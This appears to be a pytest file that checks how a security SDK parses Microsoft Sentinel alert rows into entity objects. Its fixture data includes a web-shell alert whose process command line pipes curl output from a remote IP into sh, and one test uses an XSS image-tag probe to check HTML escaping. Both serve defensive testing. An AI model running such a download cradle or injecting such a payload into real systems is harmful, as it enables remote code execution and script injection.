"""Alert.from_sentinel on hand-written SecurityAlert rows with every shape of reference."""

from __future__ import annotations

import json
from typing import Any

import pandas as pd
import pytest

from asisdk.entities import (
    Account,
    Alert,
    Dns,
    File,
    FileHash,
    Host,
    IpAddress,
    Process,
    RegistryKey,
    RegistryValue,
    Severity,
    UnknownEntity,
    from_sentinel_entities,
)
from asisdk.errors import EntityError

ENTITIES: list[dict[str, Any]] = [
    {
        "$id": "2",
        "Type": "host",
        "HostName": "web01",
        "DnsDomain": "contoso.com",
        "OSFamily": "Linux",
    },
    {"$id": "3", "Type": "account", "Name": "www-data", "Host": {"$ref": "2"}},
    {
        "$id": "4",
        "Type": "process",
        "ProcessId": "4242",
        "CommandLine": "bash -c 'curl -s http://203.0.113.7/x.sh | sh'",
        "CreationTimeUtc": "2024-03-01T10:00:01.1234567Z",
        # a nested object with its own $id, referenced again three levels down
        "ImageFile": {"$id": "5", "Type": "file", "Name": "bash", "Directory": "/usr/bin"},
        "ParentProcess": {
            "$id": "6",
            "Type": "process",
            "ProcessId": "100",
            "CommandLine": "/usr/sbin/apache2 -k start",
            "ImageFile": {"$id": "7", "Type": "file", "FullPath": "/usr/sbin/apache2"},
            "ParentProcess": {
                "$id": "8",
                "Type": "process",
                "ProcessId": "1",
                "ImageFile": {"$ref": "5"},
                "Host": {"$ref": "2"},
            },
            "Host": {"$ref": "2"},
        },
        "Account": {"$ref": "3"},
        "Host": {"$ref": "2"},
    },
    {"$id": "9", "Type": "ip", "Address": "203.0.113.7"},
    {"$id": "10", "Type": "ip", "Address": "198.51.100.20"},
    # a list mixing references and inline objects (msticpy loses the inline ones)
    {
        "$id": "11",
        "Type": "dns",
        "DomainName": "cdn.evil-updates.net",
        "IpAddresses": [{"$ref": "9"}, {"Type": "ip", "Address": "192.0.2.44"}, {"$ref": "10"}],
    },
    # entities without $id
    {"Type": "filehash", "Algorithm": "SHA256", "Value": "a" * 64},
    {"Type": "url", "Url": "http://203.0.113.7/x.sh"},
    # a type asisdk does not model
    {"$id": "12", "Type": "iot-device", "DeviceId": "cam-7", "Manufacturer": "Acme"},
    # a known type that fails validation
    {"$id": "13", "Type": "ip", "Address": "not-an-ip"},
    # a reference at the top level to an entity already listed
    {"$ref": "3"},
    {
        "$id": "14",
        "Type": "registry-value",
        "Key": {"$id": "15", "Type": "registry-key", "Hive": "HKLM", "Key": "Software\\Run"},
        "Name": "x",
    },
]


def alert_row(entities: object = None, **overrides: Any) -> dict[str, Any]:
    row: dict[str, Any] = {
        "TenantId": "11111111-2222-3333-4444-555555555555",
        "TimeGenerated": "2024-03-01T10:05:00Z",
        "DisplayName": "Web shell spawned a download cradle",
        "AlertName": "Web shell spawned a download cradle",
        "AlertSeverity": "High",
        "Description": "apache2 started bash that piped curl into sh",
        "ProviderName": "ASI Scheduled Alerts",
        "VendorName": "Microsoft",
        "ProductName": "Azure Sentinel",
        "SystemAlertId": "f0e1d2c3-b4a5-4697-8899-aabbccddeeff",
        "AlertType": "WebShellDownload",
        "Status": "New",
        "StartTime": "2024-03-01T10:00:00Z",
        "EndTime": "2024-03-01T10:00:02Z",
        "CompromisedEntity": "web01.contoso.com",
        "Tactics": "Execution, CommandAndControl",
        "Techniques": '["T1059.004","T1105"]',
        "ExtendedProperties": json.dumps({"Query Period": "00:05:00"}),
        "Entities": json.dumps(ENTITIES) if entities is None else entities,
        "ConfidenceLevel": "High",
    }
    row.update(overrides)
    return row


@pytest.fixture
def alert() -> Alert:
    return Alert.from_sentinel(alert_row())


def test_alert_fields(alert: Alert) -> None:
    assert alert.system_alert_id == "f0e1d2c3-b4a5-4697-8899-aabbccddeeff"
    assert alert.severity is Severity.HIGH
    assert alert.tactics == ("Execution", "CommandAndControl")
    assert alert.techniques == ("T1059.004", "T1105")
    assert alert.extended_properties == {"Query Period": "00:05:00"}
    assert alert.start_time is not None
    assert alert.start_time.isoformat() == "2024-03-01T10:00:00+00:00"
    assert alert.additional_data["ConfidenceLevel"] == "High"
    assert alert.additional_data["TenantId"].startswith("1111")


def test_references_resolve_at_any_depth(alert: Alert) -> None:
    process = next(p for p in alert.entities_of(Process) if p.process_id == "4242")
    host = alert.primary_host
    assert host is not None
    assert host.fqdn == "web01.contoso.com"
    assert process.host is host  # the $ref became the same object
    assert process.account is not None
    assert process.account.host is host
    grandparent = process.parent_process.parent_process  # type: ignore[union-attr]
    assert grandparent is not None
    assert grandparent.process_id == "1"
    assert grandparent.image_file is process.image_file  # $ref three levels down
    assert grandparent.host is host


def test_lists_mixing_references_and_objects_keep_every_item(alert: Alert) -> None:
    dns = alert.entities_of(Dns)[0]
    assert [ip.address for ip in dns.ip_addresses] == ["203.0.113.7", "192.0.2.44", "198.51.100.20"]
    assert dns.ip_addresses[0] is alert.entities_of(IpAddress)[0]


def test_no_entity_is_dropped(alert: Alert) -> None:
    kinds = [type(e).__name__ for e in alert.entities]
    assert kinds.count("Process") == 3  # top level, parent and grandparent
    assert kinds.count("File") == 2  # bash (shared) and apache2
    assert len(alert.entities_of(FileHash)) == 1  # no $id
    assert any(
        u.url == "http://203.0.113.7/x.sh" for u in alert.entities_of(__import__("asisdk").Url)
    )
    unknown = alert.entities_of(UnknownEntity)
    assert {u.entity_type for u in unknown} == {"iot-device", "ip"}
    iot = next(u for u in unknown if u.entity_type == "iot-device")
    assert iot.raw["Manufacturer"] == "Acme"
    assert iot.error is None
    bad_ip = next(u for u in unknown if u.entity_type == "ip")
    assert bad_ip.error is not None
    assert "not-an-ip" in bad_ip.error
    assert len(alert.entities_of(Account)) == 1  # the top-level $ref is not a second account
    assert alert.entities_of(RegistryValue)[0].key == alert.entities_of(RegistryKey)[0]
    assert len(alert.entities_of(IpAddress)) == 3  # both $id addresses and the inline one


def test_json_string_and_parsed_forms_agree() -> None:
    from_text = Alert.from_sentinel(alert_row())
    from_list = Alert.from_sentinel(
        alert_row(entities=ENTITIES, ExtendedProperties={"Query Period": "00:05:00"})
    )
    assert [e.to_dict() for e in from_text.entities] == [e.to_dict() for e in from_list.entities]
    assert from_text.extended_properties == from_list.extended_properties


def test_pandas_series_rows_and_nan_cells() -> None:
    frame = pd.DataFrame([alert_row(Status=float("nan"))])
    alert = Alert.from_sentinel(frame.iloc[0])
    assert alert.status is None
    assert len(alert.entities) > 5


def test_primary_process_prefers_a_child_whose_parent_is_listed(alert: Alert) -> None:
    primary = alert.primary_process
    assert primary is not None
    assert primary.process_id == "4242"
    assert alert.primary_account is not None
    assert alert.primary_account.name == "www-data"


def test_primary_host_follows_the_compromised_entity() -> None:
    entities = [
        {"$id": "1", "Type": "host", "HostName": "jump01"},
        {"$id": "2", "Type": "host", "HostName": "db01", "DnsDomain": "corp.local"},
    ]
    alert = Alert.from_sentinel(alert_row(entities=entities, CompromisedEntity="DB01.corp.local"))
    assert alert.primary_host is not None
    assert alert.primary_host.host_name == "db01"


def test_query_params_merge_entities_window_and_id(alert: Alert) -> None:
    params = alert.query_params()
    assert params["host_name"] == "web01.contoso.com"
    assert params["account_name"] == "www-data"
    assert params["process_id"] == "4242"
    assert params["process_name"] == "/usr/bin/bash"
    assert params["ip_address"] == "203.0.113.7"
    assert params["system_alert_id"] == alert.system_alert_id
    assert params["start"] == alert.start_time
    assert params["end"] == alert.end_time


def test_round_trip_keeps_entities_and_shared_references(alert: Alert) -> None:
    data = alert.to_dict()
    json.dumps(data)  # plain JSON
    again = Alert.from_dict(data)
    assert again == alert
    assert [e.to_dict() for e in again.entities] == [e.to_dict() for e in alert.entities]
    process = next(p for p in again.entities_of(Process) if p.process_id == "4242")
    assert process.host is again.primary_host
    assert again.tactics == alert.tactics
    assert again.techniques == alert.techniques
    assert again.additional_data == alert.additional_data


def test_cycles_and_dangling_references_do_not_hang_or_vanish() -> None:
    entities = [
        {"$id": "1", "Type": "process", "ProcessId": "1", "ParentProcess": {"$ref": "2"}},
        {"$id": "2", "Type": "process", "ProcessId": "2", "ParentProcess": {"$ref": "1"}},
        {"$id": "3", "Type": "account", "Name": "x", "Host": {"$ref": "99"}},
        {"$ref": "42"},
    ]
    alert = Alert.from_sentinel(alert_row(entities=entities))
    processes = alert.entities_of(Process)
    assert {p.process_id for p in processes} == {"1", "2"}
    account = alert.entities_of(Account)[0]
    assert account.host is None
    assert account.additional_data["Host"] == {"UnresolvedRef": "99"}  # kept, not lost
    dangling = alert.entities_of(UnknownEntity)
    assert dangling
    assert dangling[0].error == "unresolved or circular $ref"


def test_nested_entity_of_the_wrong_type_is_kept_in_additional_data() -> None:
    entities = [
        {"$id": "1", "Type": "account", "Name": "x", "Host": {"Type": "ip", "Address": "1.2.3.4"}}
    ]
    alert = Alert.from_sentinel(alert_row(entities=entities))
    account = alert.entities_of(Account)[0]
    assert account.host is None
    assert account.additional_data["Host"]["Address"] == "1.2.3.4"


def test_malformed_json_is_a_clear_error() -> None:
    with pytest.raises(EntityError, match="Entities value is not valid JSON"):
        Alert.from_sentinel(alert_row(entities="[{broken"))
    with pytest.raises(EntityError, match="ExtendedProperties"):
        Alert.from_sentinel(alert_row(ExtendedProperties="{nope"))
    with pytest.raises(EntityError, match="mapping"):
        Alert.from_sentinel(["not", "a", "row"])


def test_tactics_and_techniques_in_every_form() -> None:
    for tactics in (
        "Execution, Persistence",
        ["Execution", "Persistence"],
        '["Execution","Persistence"]',
    ):
        assert Alert.from_sentinel(alert_row(entities="[]", Tactics=tactics)).tactics == (
            "Execution",
            "Persistence",
        )


def test_bare_entities_array() -> None:
    entities = from_sentinel_entities(json.dumps(ENTITIES))
    assert isinstance(entities[0], Host)
    assert len(entities) == len(ENTITIES) - 1  # the top-level $ref to "3" is not repeated
    assert from_sentinel_entities("[]") == []
    assert isinstance(from_sentinel_entities({"Type": "file", "Name": "a"})[0], File)


def test_html_shows_severity_window_and_entities(alert: Alert) -> None:
    html = alert._repr_html_()
    assert "Web shell spawned a download cradle" in html
    assert "#c62828" in html  # high severity colour
    assert "2024-03-01T10:00:00Z" in html
    assert "web01.contoso.com" in html
    hostile = Alert.from_sentinel(
        alert_row(entities="[]", DisplayName="<img src=x onerror=alert(1)>")
    )._repr_html_()
    assert "<img" not in hostile
    assert "&lt;img src=x onerror=alert(1)&gt;" in hostile
